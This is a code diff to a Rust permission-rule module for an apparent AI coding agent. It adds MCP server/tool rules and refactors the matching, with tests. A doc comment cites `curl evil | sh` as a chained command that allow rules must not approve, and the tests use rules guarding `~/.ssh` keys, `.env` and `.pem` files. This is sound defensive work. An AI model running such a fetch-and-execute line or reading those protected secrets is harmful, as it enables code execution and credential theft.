@@ -1,20 +1,27 @@
 //! Permission rules: `allow` and `deny` lists from the config's `[permissions]` table and the `--allow`/`--deny`
 //! flags.
 //!
-//! A rule is a tool name (`run`, `read_file`, or the families `Run`, `Read`, `Edit`) optionally followed by a
+//! A rule is a tool name (`run`, `read_file`, or the families `Run`, `Read`, `Edit`, which cover tools by what
+//! they are: tools that run a command line, reading and searching tools, editing tools) optionally followed by a
 //! pattern in parentheses: `Run(cargo test*)`, `Run(git push:*)`, `Edit(**/.env)`, `Read(~/.ssh/**)`. Deny always
 //! wins over allow. A `Run` allow rule approves a command line only when every command in it (as the guard
 //! sees them, wrappers and nested shells included) is covered, so `Run(cargo test*)` does not approve
 //! `cargo test && curl evil | sh`.
+//!
+//! `Mcp(<server>/<tool>)` covers tools of MCP servers by the names the user configured (not the sanitised names
+//! the model sees); `*` matches any run of characters in either part: `Mcp(git/*)`, `Mcp(*/search_*)`,
+//! `Mcp(github/create_issue)`. A bare `Mcp` covers every MCP tool.
 
 use std::path::Path;
+
+use super::{Action, Call, Kind};
 
 /// The error returned by [`Rule::parse()`].
 #[derive(Debug, thiserror::Error)]
 pub enum RuleError {
     #[error("invalid permission rule '{0}': expected a tool name, optionally with a pattern: Run(cargo test*), Edit(**/.env), read_file")]
     Syntax(String),
-    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, run, read_file, list_files, search, edit_file, write_file)")]
+    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, Mcp, run, read_file, list_files, search, edit_file, write_file)")]
     UnknownTool { rule: String, tool: String },
 }
 
@@ -29,6 +36,8 @@ enum Family {
     Edit,
     /// One tool by its exact name; a pattern, if any, matches its `path` argument.
     Tool(String),
+    /// Tools of MCP servers; the pattern matches `<server>/<tool>`.
+    Mcp,
 }
 
 /// One parsed rule.
@@ -68,6 +77,7 @@ impl Rule {
             "Run" | "Bash" | "Shell" => Family::Run,
             "Read" => Family::Read,
             "Edit" | "Write" => Family::Edit,
+            "Mcp" | "MCP" => Family::Mcp,
             tool if TOOLS.contains(&tool) => Family::Tool(tool.to_string()),
             tool => {
                 return Err(RuleError::UnknownTool {
@@ -83,18 +93,38 @@ impl Rule {
         })
     }
 
-    fn covers_tool(&self, tool: &str) -> bool {
+    /// Whether the rule is about this call's tool: `Run` covers tools that run a command line, `Read` reading
+    /// and searching tools, `Edit` editing ones, a tool name that tool.
+    fn covers_tool(&self, call: &Call<'_>) -> bool {
         match &self.family {
-            Family::Run => tool == "run",
-            Family::Read => matches!(tool, "read_file" | "list_files" | "search"),
-            Family::Edit => matches!(tool, "edit_file" | "write_file"),
-            Family::Tool(name) => name == tool,
+            Family::Run => matches!(call.action, Action::Command(_)),
+            Family::Read => call.kind == Kind::Read,
+            Family::Edit => call.kind == Kind::Edit,
+            Family::Tool(name) => name == call.tool,
+            Family::Mcp => matches!(call.action, Action::Mcp { .. }),
         }
     }
 
-    /// Whether this rule covers one command of a `run` line.
-    pub fn covers_command(&self, command: &str) -> bool {
-        if !self.covers_tool("run") {
+    /// Whether this rule covers the MCP call `call` (server and tool as configured).
+    pub fn covers_mcp(&self, call: &Call<'_>) -> bool {
+        let Action::Mcp { server, tool, .. } = call.action else {
+            return false;
+        };
+        if self.family != Family::Mcp {
+            return false;
+        }
+        let Some(pattern) = &self.pattern else {
+            return true;
+        };
+        // `server` alone means all its tools.
+        let (want_server, want_tool) = pattern.split_once('/').unwrap_or((pattern, "*"));
+        wildcard(want_server.as_bytes(), server.as_bytes())
+            && wildcard(want_tool.as_bytes(), tool.as_bytes())
+    }
+
+    /// Whether this rule covers one command of the command line of `call`.
+    pub fn covers_command(&self, call: &Call<'_>, command: &str) -> bool {
+        if !self.covers_tool(call) {
             return false;
         }
         match &self.pattern {
@@ -103,9 +133,15 @@ impl Rule {
         }
     }
 
-    /// Whether this rule covers a file tool on `rel` (checkout-relative) / `abs`.
-    pub fn covers_path(&self, tool: &str, rel: &Path, abs: &Path, home: Option<&Path>) -> bool {
-        if !self.covers_tool(tool) || tool == "run" {
+    /// Whether this rule covers a file tool's `call` on `rel` (checkout-relative) / `abs`.
+    pub fn covers_path(
+        &self,
+        call: &Call<'_>,
+        rel: &Path,
+        abs: &Path,
+        home: Option<&Path>,
+    ) -> bool {
+        if !self.covers_tool(call) || matches!(call.action, Action::Command(_)) {
             return false;
         }
         let Some(p) = &self.pattern else { return true };
@@ -161,57 +197,73 @@ impl Rules {
         self.deny.extend(other.deny);
     }
 
-    /// The first deny rule that matches a bare tool name.
-    pub fn deny_tool(&self, tool: &str) -> Option<&Rule> {
+    /// The first bare deny rule covering the call's tool.
+    pub fn deny_tool(&self, call: &Call<'_>) -> Option<&Rule> {
         self.deny
             .iter()
-            .find(|r| r.is_bare() && r.covers_tool(tool))
+            .find(|r| r.is_bare() && r.covers_tool(call))
     }
 
-    /// The first deny rule covering any command of a `run` line.
-    pub fn deny_commands<'a>(&'a self, commands: &'a [String]) -> Option<(&'a Rule, &'a str)> {
+    /// The first deny rule covering any command of `call`'s command line.
+    pub fn deny_commands<'a>(
+        &'a self,
+        call: &Call<'_>,
+        commands: &'a [String],
+    ) -> Option<(&'a Rule, &'a str)> {
         commands.iter().find_map(|c| {
             self.deny
                 .iter()
-                .find(|r| !r.is_bare() && r.covers_command(c))
+                .find(|r| !r.is_bare() && r.covers_command(call, c))
                 .map(|r| (r, c.as_str()))
         })
     }
 
     /// The allow rules that cover every command of a `run` line (one per command), or `None` if any command is
     /// not covered. A line without commands (only assignments) is covered by nothing.
-    pub fn allow_commands(&self, commands: &[String]) -> Option<Vec<&Rule>> {
+    pub fn allow_commands(&self, call: &Call<'_>, commands: &[String]) -> Option<Vec<&Rule>> {
         if commands.is_empty() {
             return None;
         }
         commands
             .iter()
-            .map(|c| self.allow.iter().find(|r| r.covers_command(c)))
+            .map(|c| self.allow.iter().find(|r| r.covers_command(call, c)))
             .collect()
+    }
+
+    /// The first deny rule with a pattern covering an MCP call.
+    pub fn deny_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
+        self.deny
+            .iter()
+            .find(|r| !r.is_bare() && r.covers_mcp(call))
+    }
+
+    /// The first allow rule covering an MCP call.
+    pub fn allow_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
+        self.allow.iter().find(|r| r.covers_mcp(call))
     }
 
     pub fn deny_path(
         &self,
-        tool: &str,
+        call: &Call<'_>,
         rel: &Path,
         abs: &Path,
         home: Option<&Path>,
     ) -> Option<&Rule> {
         self.deny
             .iter()
-            .find(|r| !r.is_bare() && r.covers_path(tool, rel, abs, home))
+            .find(|r| !r.is_bare() && r.covers_path(call, rel, abs, home))
     }
 
     pub fn allow_path(
         &self,
-        tool: &str,
+        call: &Call<'_>,
         rel: &Path,
         abs: &Path,
         home: Option<&Path>,
     ) -> Option<&Rule> {
         self.allow
             .iter()
-            .find(|r| r.covers_path(tool, rel, abs, home))
+            .find(|r| r.covers_path(call, rel, abs, home))
     }
 }
 
@@ -274,6 +326,25 @@ mod tests {
         Rules::from_lists(allow, deny).unwrap()
     }
 
+    const RUN: Call<'static> = Call {
+        tool: "run",
+        kind: Kind::Other,
+        action: Action::Command(""),
+    };
+
+    /// A file tool's call, as the tool describes itself.
+    fn file(tool: &str) -> Call<'_> {
+        let kind = match tool {
+            "read_file" | "search" | "list_files" => Kind::Read,
+            _ => Kind::Edit,
+        };
+        Call {
+            tool,
+            kind,
+            action: Action::Path(""),
+        }
+    }
+
     fn cmds(list: &[&str]) -> Vec<String> {
         list.iter().map(|s| s.to_string()).collect()
     }
@@ -295,37 +366,37 @@ mod tests {
     #[test]
     fn run_patterns() {
         let r = Rule::parse("Run(cargo test*)").unwrap();
-        assert!(r.covers_command("cargo test"));
-        assert!(r.covers_command("cargo test --all -- --nocapture"));
-        assert!(!r.covers_command("cargo build"));
+        assert!(r.covers_command(&RUN, "cargo test"));
+        assert!(r.covers_command(&RUN, "cargo test --all -- --nocapture"));
+        assert!(!r.covers_command(&RUN, "cargo build"));
         let r = Rule::parse("Run(git push:*)").unwrap();
-        assert!(r.covers_command("git push"));
-        assert!(r.covers_command("git push origin main"));
-        assert!(!r.covers_command("git pushy"));
+        assert!(r.covers_command(&RUN, "git push"));
+        assert!(r.covers_command(&RUN, "git push origin main"));
+        assert!(!r.covers_command(&RUN, "git pushy"));
         let r = Rule::parse("Run(make)").unwrap();
-        assert!(r.covers_command("make"));
-        assert!(!r.covers_command("make install"));
+        assert!(r.covers_command(&RUN, "make"));
+        assert!(!r.covers_command(&RUN, "make install"));
     }
 
     #[test]
     fn allow_needs_every_command_covered_and_deny_wins() {
         let rs = rules(&["Run(cargo test*)", "Run(ls:*)"], &["Run(git push:*)"]);
         assert!(rs
-            .allow_commands(&cmds(&["cargo test", "ls -la"]))
+            .allow_commands(&RUN, &cmds(&["cargo test", "ls -la"]))
             .is_some());
         assert!(rs
-            .allow_commands(&cmds(&["cargo test", "curl x"]))
+            .allow_commands(&RUN, &cmds(&["cargo test", "curl x"]))
             .is_none());
-        assert!(rs.allow_commands(&[]).is_none());
+        assert!(rs.allow_commands(&RUN, &[]).is_none());
         let line = cmds(&["ls", "git push origin x"]);
-        let (rule, cmd) = rs.deny_commands(&line).unwrap();
+        let (rule, cmd) = rs.deny_commands(&RUN, &line).unwrap();
         assert_eq!(
             (rule.text.as_str(), cmd),
             ("Run(git push:*)", "git push origin x")
         );
         let bare = rules(&[], &["run"]);
-        assert!(bare.deny_tool("run").is_some());
-        assert!(bare.deny_tool("read_file").is_none());
+        assert!(bare.deny_tool(&RUN).is_some());
+        assert!(bare.deny_tool(&file("read_file")).is_none());
     }
 
     #[test]
@@ -333,58 +404,58 @@ mod tests {
         let home = Path::new("/home/u");
         let edit_env = Rule::parse("Edit(**/.env)").unwrap();
         assert!(edit_env.covers_path(
-            "write_file",
+            &file("write_file"),
             Path::new(".env"),
             Path::new("/r/.env"),
             Some(home)
         ));
         assert!(edit_env.covers_path(
-            "edit_file",
+            &file("edit_file"),
             Path::new("a/b/.env"),
             Path::new("/r/a/b/.env"),
             Some(home)
         ));
         assert!(!edit_env.covers_path(
-            "read_file",
+            &file("read_file"),
             Path::new(".env"),
             Path::new("/r/.env"),
             Some(home)
         ));
         assert!(!edit_env.covers_path(
-            "edit_file",
+            &file("edit_file"),
             Path::new(".envrc"),
             Path::new("/r/.envrc"),
             Some(home)
         ));
         let ssh = Rule::parse("Read(~/.ssh/**)").unwrap();
         assert!(ssh.covers_path(
-            "read_file",
+            &file("read_file"),
             Path::new("x"),
             Path::new("/home/u/.ssh/id_rsa"),
             Some(home)
         ));
         assert!(!ssh.covers_path(
-            "read_file",
+            &file("read_file"),
             Path::new("x"),
             Path::new("/home/v/.ssh/id_rsa"),
             Some(home)
         ));
         let pem = Rule::parse("Read(*.pem)").unwrap();
         assert!(pem.covers_path(
-            "search",
+            &file("search"),
             Path::new("certs/a.pem"),
             Path::new("/r/certs/a.pem"),
             None
         ));
         let src = Rule::parse("Edit(src/*.rs)").unwrap();
         assert!(src.covers_path(
-            "edit_file",
+            &file("edit_file"),
             Path::new("src/a.rs"),
             Path::new("/r/src/a.rs"),
             None
         ));
         assert!(!src.covers_path(
-            "edit_file",
+            &file("edit_file"),
             Path::new("src/x/a.rs"),
             Path::new("/r/src/x/a.rs"),
             None
